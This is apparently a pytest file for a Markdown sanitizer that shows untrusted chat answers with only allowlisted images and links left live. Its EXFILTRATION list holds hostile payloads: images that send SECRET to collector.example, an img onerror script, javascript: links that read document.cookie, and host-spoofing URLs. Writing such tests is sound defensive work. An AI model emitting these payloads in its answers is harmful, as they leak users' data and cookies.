"""Untrusted text is drawn inert: images and links only to the administrator's allowlist, no HTML.

``inert_markdown`` is checked twice: on what it writes, and by parsing what it writes again
(CommonMark + GFM tables), so that a test fails when any live image, link or HTML survives,
whatever the exact escaping.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from builder_ui.services.links import ShownHosts
from builder_ui.web.models.inert import (
    NoHosts,
    Note,
    address_host,
    inert_markdown,
    literal,
    safe_address,
)

BARE = re.compile(r"(?i)[a-z]://|\bwww\.|[\w.+-]@\w")
ALLOWED = ShownHosts(allow=("*.gouv.fr", "docs.example.org"), deny=("evil.gouv.fr",))


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _walk(token.children or [])


def live(markdown: str) -> list[tuple[str, str]]:
    """What a renderer would fetch or link to in ``markdown``: (kind, address) pairs, raw HTML
    and bare addresses a GFM renderer would link included."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    found = []
    for token in _walk(parser.parse(markdown)):
        if token.type == "image":
            found.append(("image", str(token.attrGet("src"))))
        elif token.type == "link_open":
            found.append(("link", str(token.attrGet("href"))))
        elif token.type in ("html_inline", "html_block"):
            found.append(("html", token.content))
        elif token.type == "text":  # GFM links addresses in the decoded text by itself
            found += [("bare", m.group(0)) for m in BARE.finditer(token.content)]
    return found


EXFILTRATION = [
    "![](https://collector.example/?q=SECRET)",
    'Voici la réponse. ![logo](http://127.0.0.1:9/x.png?q=SECRET "titre")',
    "![alt][ref]\n\n[ref]: https://collector.example/?q=SECRET",
    "![ref]\n\n[ref]: https://collector.example/i.png",
    "![alt][]\n\n[alt]: <https://collector.example/i.png>",
    '<img src="https://collector.example/?q=SECRET">',
    "Texte <img src=x onerror=alert(1)> suite",
    "<div>\n<img src='https://collector.example/a'>\n</div>",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[clic](javascript:alert(document.cookie))",
    "[clic](<javascript:alert(1)>)",
    "<https://collector.example/?q=SECRET>",
    "<mailto:a@collector.example>",
    "[![img](https://collector.example/i.png)](https://collector.example/)",
    "[a [b] c](https://collector.example/)",
    '[a](https://collector.example/ "t") et [b](https://collector.example/b)',
    "![a ![b](https://c.example/b.png) c](https://collector.example/a.png)",
    "https://collector.example/?q=SECRET et www.collector.example et a@collector.example",
    "- point ![x](https://collector.example/1)\n  - sous-point <img src=y>",
    "> citation ![x](https://collector.example/2)",
    "| a | b |\n|---|---|\n| ![x](https://collector.example/3) | `c|d` |",
    "# Titre ![x](https://collector.example/4)",
    "Titre\n=====\n![x](https://collector.example/5)",
    "texte\\\n![x](https://collector.example/6)",
    "![x](https://docs.example.org@collector.example/)",
    "![x](https://collector.example\\@docs.example.org/)",
    "[x](https://evil.gouv.fr/)",
    "![x](//collector.example/)",
    "![x](/_stcore/health)",
    "`code` ![x](https://collector.example/7) `plus`",
    "a `\n\nb ![x](https://collector.example/8) ` c",
    "- a\n  ```\n![x](https://collector.example/9)\n```",
    ":red[rouge] :material/home: $x^2$ ~~barré~~",
    "&lt;img src=x&gt; &#33;[x](https://collector.example/10)",
]


@pytest.mark.parametrize("text", EXFILTRATION)
def test_nothing_outside_the_allowlist_stays_live(text: str) -> None:
    shown = inert_markdown(text, ALLOWED)
    assert live(shown.markdown) == [], shown.markdown


def test_an_image_becomes_its_address_as_text_with_a_note() -> None:
    shown = inert_markdown("Voici ![logo](https://collector.example/?q=SECRET)", ALLOWED)
    assert shown.notes == (Note("image", "collector.example"),)
    assert shown.markdown == "Voici logo (`https://collector.example/?q=SECRET`)"


def test_reference_style_images_and_links_are_resolved_then_shown_as_text() -> None:
    text = "![a][img] et [b][lien]\n\n[img]: https://c.example/i.png\n[lien]: https://d.example/"
    shown = inert_markdown(text, ALLOWED)
    assert shown.notes == (Note("image", "c.example"), Note("link", "d.example"))
    assert shown.markdown == "a (`https://c.example/i.png`) et b (`https://d.example/`)"


def test_html_is_shown_as_text_never_rendered() -> None:
    shown = inert_markdown('<b>gras</b> et <img src="x">', ALLOWED)
    assert shown.markdown.replace("\\", "") == '<b>gras</b> et <img src="x">'
    assert shown.notes == (Note("html"),)


def test_data_and_javascript_addresses_are_named_by_their_scheme() -> None:
    shown = inert_markdown("![x](data:image/png;base64,AAAA)", ALLOWED)
    assert shown.notes == (Note("image", "data"),)
    assert inert_markdown("[x](javascript:alert(1))", ALLOWED).notes == ()  # not even a link
    assert address_host("javascript:alert(1)") == "javascript"


def test_a_long_address_is_shortened_in_the_text() -> None:
    shown = inert_markdown("![x](data:image/png;base64," + "A" * 5000 + ")", ALLOWED)
    assert len(shown.markdown) < 200
    assert shown.markdown.endswith("…`)")


def test_notes_are_given_once_per_kind_and_host() -> None:
    text = "![a](https://c.example/1) ![b](https://c.example/2) [c](https://c.example/3)"
    shown = inert_markdown(text, ALLOWED)
    assert shown.notes == (Note("image", "c.example"), Note("link", "c.example"))


def test_links_and_images_to_allowed_hosts_stay_live() -> None:
    text = (
        "[le site](https://www.service-public.gouv.fr/a(b)) "
        "![carte](<https://docs.example.org/c d.png>)"
    )
    shown = inert_markdown(text, ALLOWED)
    assert live(shown.markdown) == [
        ("link", "https://www.service-public.gouv.fr/a%28b%29"),
        ("image", "https://docs.example.org/c%20d.png"),
    ]
    assert shown.notes == ()


def test_an_allowed_link_around_an_outside_image_keeps_only_the_link() -> None:
    shown = inert_markdown("[![logo](https://c.example/l.png)](https://x.gouv.fr/)", ALLOWED)
    assert live(shown.markdown) == [("link", "https://x.gouv.fr/")]
    assert shown.notes == (Note("image", "c.example"),)


def test_the_deny_list_wins_and_user_names_are_refused() -> None:
    assert safe_address("https://evil.gouv.fr/", ALLOWED) is None
    assert safe_address("https://a.gouv.fr@collector.example/", ALLOWED) is None
    assert safe_address("https://collector.example\\@a.gouv.fr/", ALLOWED) is None
    assert safe_address("ftp://a.gouv.fr/", ALLOWED) is None
    assert safe_address("https://a.gouv.fr/x", ALLOWED) == "https://a.gouv.fr/x"
    assert safe_address("https://a.gouv.fr/x", NoHosts()) is None


def test_an_empty_allowlist_shows_nothing_live() -> None:
    shown = inert_markdown("[x](https://a.gouv.fr/) ![y](https://a.gouv.fr/y.png)")
    assert live(shown.markdown) == []
    assert shown.notes == (Note("link", "a.gouv.fr"), Note("image", "a.gouv.fr"))


def test_the_shape_of_an_answer_is_kept() -> None:
    text = (
        "# Résumé\n\nUn **point** important, *vraiment*, et du `code`.\n\n"
        "- un\n- deux\n  1. sous\n\n> citation\n\n```python\nprint('![a](b)')\n```\n\n"
        "| Jour | Heures |\n|:--|--:|\n| lundi | 7,5 |"
    )
    shown = inert_markdown(text, ALLOWED)
    html = MarkdownIt("commonmark").enable("table").render(shown.markdown)
    for fragment in (
        "<h1>Résumé</h1>",
        "<strong>point</strong>",
        "<em>vraiment</em>",
        "<code>code</code>",
        "<li>un</li>",
        "<ol>",
        "<blockquote>",
        "print('![a](b)')",
        '<th style="text-align:left">Jour</th>',
        '<td style="text-align:right">7,5</td>',
    ):
        assert fragment in html, (fragment, shown.markdown)
    assert shown.notes == ()


def test_text_keeps_its_characters() -> None:
    text = "6*7 = 42, 5 $ et 6 $, a_b_c, #1, [note], 1. pas une liste, \\ fin"
    shown = inert_markdown(text, ALLOWED)
    html = MarkdownIt("commonmark").render(shown.markdown)
    assert html == f"<p>{text.replace('&', '&amp;')}</p>\n"


def test_a_literal_label_keeps_every_character() -> None:
    html = MarkdownIt("commonmark").render(literal("# ![x](https://c.example/) **<b> 1."))
    assert html == "<p># ![x](<code>https://c.example/</code>) **&lt;b&gt; 1.</p>\n"


def test_half_an_image_while_streaming_is_text() -> None:
    whole = "Voici ![x](https://collector.example/?q=SECRET)"
    for end in range(len(whole) + 1):
        assert live(inert_markdown(whole[:end], ALLOWED).markdown) == []


def test_the_empty_text() -> None:
    assert inert_markdown("", ALLOWED).markdown == ""
    assert inert_markdown("   \n", ALLOWED).notes == ()
